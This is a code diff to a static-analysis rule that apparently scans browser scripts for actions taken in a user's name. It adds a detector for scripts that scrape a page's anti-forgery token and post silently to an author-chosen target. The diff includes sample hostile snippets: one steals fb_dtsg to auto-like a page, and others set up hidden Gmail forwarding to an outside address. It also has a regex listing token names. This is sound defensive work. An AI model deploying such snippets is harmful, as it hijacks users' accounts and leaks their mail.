@@ -20,6 +20,7 @@ import { listenersOf } from './listeners.ts';
 import { hostOf, isFromServer, leadsOut, mentions, ownerOf, requestsOf } from './network.ts';
 import { originsOf } from './origins.ts';
 import { runsInPages } from './places.ts';
+import { happensByItself } from './unasked.ts';
 import { callsWithin, few } from './usage.ts';
 
 export const actsInPersonsName = defineRule({
@@ -37,6 +38,7 @@ export const actsInPersonsName = defineRule({
     const foreign = requestsOf(script).filter(({ to }) => leadsOut(to) && hostOf(to) !== undefined);
     const inPages = runsInPages(facts, file.path);
     if (inPages) yield* typesAndSends(script, hit);
+    if (inPages && mentions(script, FORM_TOKEN)) yield* postsForItsAuthor(script, hit);
     if (mentions(script, FORWARDS)) {
       for (const call of few(callsOf(script, 'fetch', '$.post', '$.ajax', 'axios.post'), 100)) {
         const given = [
@@ -89,11 +91,20 @@ export const actsInPersonsName = defineRule({
       contentExample(
         'const body = new URLSearchParams({ act: "cf_add", cf2_emc: "true", cf2_email: "box@x.example", irf: "on" }); fetch(`/mail/u/0/?ik=${window.ik}&at=${window.GM_ACTION_TOKEN}&view=up`, { method: "POST", body });',
       ),
+      contentExample(
+        'const m = document.documentElement.innerHTML.match(/"token":"([^"]+)"/); function act(path, o) { o.fb_dtsg = m[1]; return fetch(path, { method: "POST", body: new URLSearchParams(o) }); } if (m) { act("/ajax/pages/fan_status", { fbpage_id: "100000000001", add: 1 }); }',
+      ),
       backgroundExample(
         'chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { method: "POST", headers: { Authorization: "Bearer " + t }, body: JSON.stringify({ action: { forward: "box@x.example" } }) }));',
       ),
     ],
     good: [
+      contentExample(
+        'button.addEventListener("click", () => { fetch("/ajax/fan", { method: "POST", body: new URLSearchParams({ csrf_token: document.querySelector("[name=csrf_token]").value, page_id: "100000000001" }) }); });',
+      ),
+      contentExample(
+        'fetch("/inbox/read", { method: "POST", body: new URLSearchParams({ csrf_token: document.querySelector("[name=csrf_token]").value, all: "1" }) });',
+      ),
       backgroundExample(
         'chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { headers: { Authorization: "Bearer " + t } }).then((r) => r.json()).then(show));',
       ),
@@ -112,6 +123,42 @@ export const actsInPersonsName = defineRule({
     ],
   },
 });
+
+/** Names of the sign that a site's own pages put into what they post. */
+const FORM_TOKEN =
+  /\b(?:fb_dtsg|csrf_?token|csrfmiddlewaretoken|authenticity_token|_csrf|xsrf_?token|form_key|__RequestVerificationToken)\b/i;
+/** Whom or what something is done for: the number of a page, a person, a post. */
+const TARGET = /^\d{6,}$/;
+
+/** A post to the site of the page, by itself, with its pages' sign and with a target or a link that the author wrote. */
+function* postsForItsAuthor(script: ScriptFacts, hit: Judged['hit']): Generator<Hit> {
+  const posts = few(requestsOf(script), 60).find(({ to, pos, value }) =>
+    /^\/(?!\/)/.test(to) || to === '*' ? postsBy(script, value) && happensByItself(script, pos) : false,
+  );
+  if (posts === undefined) return;
+  for (let value = 1; value < script.op.length; value++) {
+    if (script.op[value] !== Op.object) continue;
+    for (const key of keysOf(script, value)) {
+      const text = constant(script, propertyOf(script, value, key)) ?? pattern(script, propertyOf(script, value, key));
+      const isLink = /message|status|text|comment|body|content/i.test(key) && /https?:\/\//.test(text);
+      if (!isLink && !(TARGET.test(text) && /(?:^|_)(?:id|target|page|user|profile|friend)/i.test(key))) continue;
+      yield hit(posts.value, {
+        severity: 'critical',
+        confidence: 'high',
+        evidence: `${key}: ${text}`.slice(0, 160),
+        message: 'It is posted by itself, with the sign of the page’s own forms, for somebody that the author named.',
+      });
+      return;
+    }
+  }
+}
+
+/** Whether a request that is no more than its address and options changes something at the site. */
+function postsBy(script: ScriptFacts, call: number): boolean {
+  if (script.op[call] !== Op.call) return false;
+  const options = listOf(script, script.b[call] as number)[1] ?? 0;
+  return /^(?:POST|PUT)$/i.test(constant(script, propertyOf(script, options, 'method')) ?? '');
+}
 
 /** The sign by which a site tells its own pages' requests from those of others. */
 function hasToken(script: ScriptFacts, headers: number): boolean {
